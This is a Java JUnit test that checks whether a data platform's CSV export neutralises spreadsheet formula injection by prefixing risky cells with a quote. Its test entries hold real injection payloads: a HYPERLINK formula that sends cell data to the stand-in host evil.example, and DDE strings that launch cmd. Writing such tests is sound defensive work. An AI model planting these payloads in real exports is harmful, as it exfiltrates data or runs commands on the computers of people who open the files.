package org.matdx.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.matdx.testing.TestPlatform;

/**
 * Finding 12 of issue 18 (part): a title, outcome reason, template or unit that starts like a
 * spreadsheet formula was exported as one in {@code entries.csv}, to run on the computer of whoever
 * opened it. Such cells are now text (prefixed with a quote, as OWASP advises); numbers, negative
 * ones included, stay numbers.
 */
class CsvInjectionTest {
    static TestPlatform tp;
    static TestPlatform.Person alice;

    @BeforeAll
    static void start() {
        tp = TestPlatform.start().withServer();
        alice = tp.person("alice");
    }

    @AfterAll
    static void stop() {
        tp.close();
    }

    @Test
    void cellsThatWouldRunAsFormulasAreExportedAsText() throws Exception {
        String id = alice.api().post("/api/v1/datasets", "{\"title\": \"csv\", \"access\": \"public\"}").json().path("id").asString();
        var r = alice.api().post("/api/v1/datasets/" + id + "/entries", """
                {"entries": [
                  {"title": "=HYPERLINK(\\"http://evil.example/?\\"&A1, \\"click\\")", "formula": "ZnO",
                   "properties": {"formation_energy": {"value": -3.2, "unit": "eV"}}},
                  {"title": "+cmd|' /C calc'!A0", "formula": "TiO2", "outcome": "failed", "outcome_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
                   "template": "-2+3"},
                  {"title": "magnesia", "formula": "MgO", "properties": {"weird": {"value": 1, "unit": "=1+1"}}}
                ]}""");
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        var csv = tp.anonymous().get("/api/v1/datasets/" + id + "/entries.csv");
        assertThat(csv.status()).isEqualTo(200);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.body())).getRecords();
        Map<String, CSVRecord> byFormula = Map.of(rows.get(0).get("formula"), rows.get(0), rows.get(1).get("formula"), rows.get(1),
                rows.get(2).get("formula"), rows.get(2));
        assertThat(byFormula.get("ZnO").get("title")).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")");
        assertThat(byFormula.get("ZnO").get("formation_energy (eV)")).isEqualTo("-3.2");
        assertThat(byFormula.get("TiO2").get("title")).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(byFormula.get("TiO2").get("outcome_reason")).startsWith("'@SUM");
        assertThat(byFormula.get("TiO2").get("template")).isEqualTo("'-2+3");
        assertThat(csv.body().lines().findFirst().orElseThrow()).contains("weird (=1+1)");
        for (CSVRecord row : rows) {
            for (String cell : row) {
                assertThat(cell.isEmpty() || "=+@\t\r".indexOf(cell.charAt(0)) < 0
                        || cell.charAt(0) == '-' && cell.matches("-[0-9.Ee+-]+")).as(cell).isTrue();
            }
        }
    }
}
